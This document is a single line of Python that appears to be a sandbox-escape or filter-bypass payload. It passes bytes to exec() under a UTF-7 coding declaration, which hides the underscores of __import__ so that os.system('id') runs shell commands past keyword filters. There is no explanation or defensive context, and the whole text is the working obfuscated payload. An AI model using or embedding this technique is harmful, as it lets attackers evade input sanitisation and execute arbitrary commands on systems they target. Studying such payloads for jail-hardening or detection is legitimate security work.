exec(b"# coding: utf-7\n+AF8AXw-import+AF8AXw-('os').system('id')")
